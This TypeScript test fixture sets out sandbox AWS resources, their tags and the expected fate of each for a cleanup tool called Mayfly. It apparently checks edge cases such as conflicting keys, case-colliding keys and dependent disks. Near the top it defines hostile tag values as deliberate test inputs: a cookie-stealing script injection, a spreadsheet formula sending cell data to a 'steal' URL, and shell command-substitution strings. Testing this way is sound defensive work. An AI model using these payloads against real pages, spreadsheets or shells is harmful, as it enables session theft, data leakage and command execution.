import { type AccountStory, ago, dateIn, inDays, of } from './row.ts';

const longest = (text: string) => text + text.slice(-1).repeat(256 - text.length);

/** Values that attack whoever prints them: a page, a spreadsheet, a shell, a table of lines. */
const page = longest('"><script>alert(document.cookie)</script>!');
const spreadsheet = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"open me")';
const shell = '`touch /tmp/owned` $(touch /tmp/owned) ; # ';
const lines = 'first line\nremoved 0\r\n\tthird line';

/** Where Ben and Chloe try things out: keys that disagree, keys that collide, and Ben's friends from security. */
export const sandbox: AccountStory = {
  'us-east-1': [
    // Two keys: the later one counts, and one that can't be read holds the resource whatever the other says.
    ...of('ben', undefined, [
      { kind: 'queue', name: 'two-keys-later', tags: { 'expires-at': ago(5), ttl: inDays(5) }, fate: 'kept' },
      { kind: 'topic', name: 'two-keys-past', tags: { 'expires-at': ago(5), ttl: ago(1) }, fate: 'removed' },
      { kind: 'table', name: 'two-keys-unreadable', tags: { 'expires-at': ago(5), ttl: 'tomorrow' }, fate: 'held' },
      { kind: 'parameter', name: '/two-keys/never', tags: { 'expires-at': ago(5), ttl: 'never' }, fate: 'kept' },
    ]),

    // Keys that differ only in case: AWS's conditions can't tell them apart.
    ...of('chloe', undefined, [
      {
        kind: 'instance',
        name: 'colliding-keys',
        tags: { 'Expires-At': ago(5), 'expires-at': inDays(5) },
        fate: 'held',
      },
      { kind: 'queue', name: 'colliding-keys', tags: { TTL: ago(5), ttl: ago(5) }, fate: 'held' },
    ]),

    // Tag values as weapons: they are printed, and do nothing else.
    ...of(page, undefined, [
      { kind: 'queue', name: 'hostile-page', tags: { 'expires-at': ago(1), note: page }, fate: 'removed' },
    ]),
    ...of(spreadsheet, spreadsheet, [
      { kind: 'topic', name: 'hostile-spreadsheet', tags: { 'expires-at': ago(1) }, fate: 'removed' },
    ]),
    ...of(shell, undefined, [
      { kind: 'volume', name: 'hostile-shell', tags: { 'expires-at': ago(1) }, fate: 'removed' },
    ]),
    ...of(lines, lines, [{ kind: 'secret', name: 'hostile-lines', tags: { 'expires-at': ago(1) }, fate: 'removed' }]),
    ...of('ben', undefined, [
      { kind: 'parameter', name: '/hostile/page', tags: { 'expires-at': page }, fate: 'held' },
      { kind: 'log-group', name: '/hostile/spreadsheet', tags: { 'expires-at': '=1+1' }, fate: 'held' },
      { kind: 'table', name: 'hostile-shell', tags: { 'expires-at': shell }, fate: 'held' },
      { kind: 'volume', name: 'hostile-lines', tags: { 'expires-at': lines }, fate: 'held' },
    ]),

    // A server whose disk lives longer stays; one whose disk goes with it goes.
    ...of('ben', 'load-test', [
      {
        kind: 'instance',
        name: 'notebook',
        tags: { 'expires-at': ago(8) },
        fate: 'blocked',
        parts: [{ name: 'notebook-data', tags: { 'expires-at': inDays(10) }, fate: 'kept' }],
      },
      {
        kind: 'instance',
        name: 'notebook-old',
        tags: { 'expires-at': ago(8) },
        fate: 'removed',
        parts: [{ name: 'notebook-old-data', tags: {}, fate: 'removed' }],
      },
    ]),

    // A kind that Mayfly does not know is left alone, and the report says so.
    ...of('chloe', undefined, [
      { kind: 'document', name: 'sandbox-runbook', tags: { 'expires-at': ago(50) }, fate: 'kept' },
    ]),
  ],
  'eu-west-1': [
    ...of('chloe', undefined, [
      {
        kind: 'bucket',
        name: 'mayfly-demo-sandbox-uploads',
        tags: { 'expires-at': ago(12) },
        fate: 'removed',
        entries: 4,
      },
      { kind: 'bucket', name: 'mayfly-demo-sandbox-archive', tags: { ttl: '13w' }, fate: 'kept' },
      { kind: 'log-group', name: '/sandbox/experiments', tags: { ttl: ago(12) }, fate: 'removed' },
      { kind: 'log-group', name: '/sandbox/audit', tags: { ttl: ago(12), 'Mayfly:Protect': 'TRUE' }, fate: 'kept' },
    ]),
    ...of('ben', undefined, [
      { kind: 'secret', name: 'sandbox/api-key', tags: { 'expires-at': inDays(2) }, fate: 'kept' },
      { kind: 'function', name: 'sandbox-crawler', tags: { 'expires-at': dateIn(-2) }, fate: 'removed' },
      { kind: 'function', name: 'sandbox-resizer', tags: { 'expires-at': '1y' }, fate: 'held' },
    ]),
    ...of('chloe', undefined, [
      { kind: 'database', name: 'sandbox-analytics', tags: { ttl: '1w2d6h' }, fate: 'kept' },
      { kind: 'elastic-ip', name: 'sandbox-ip', tags: { ttl: 'PT4H' }, fate: 'kept' },
      { kind: 'volume', name: 'sandbox-untagged', tags: {}, fate: 'kept' },
    ]),
    ...of('ana', undefined, [
      { kind: 'instance', name: 'sandbox-builder', tags: { 'expires-at': ' NEVER ' }, fate: 'kept' },
      {
        kind: 'image',
        name: 'sandbox-builder-2',
        tags: { 'expires-at': ago(9) },
        fate: 'removed',
        uses: 'instance/sandbox-builder',
      },
    ]),
    ...of('chloe', undefined, [
      {
        kind: 'snapshot',
        name: 'sandbox-untagged-copy',
        tags: { ttl: ago(9) },
        fate: 'removed',
        uses: 'volume/sandbox-untagged',
      },
    ]),
    ...of('ana', undefined, [{ kind: 'queue', name: 'sandbox-dead-letters', tags: { ttl: '0d' }, fate: 'held' }]),
  ],
};
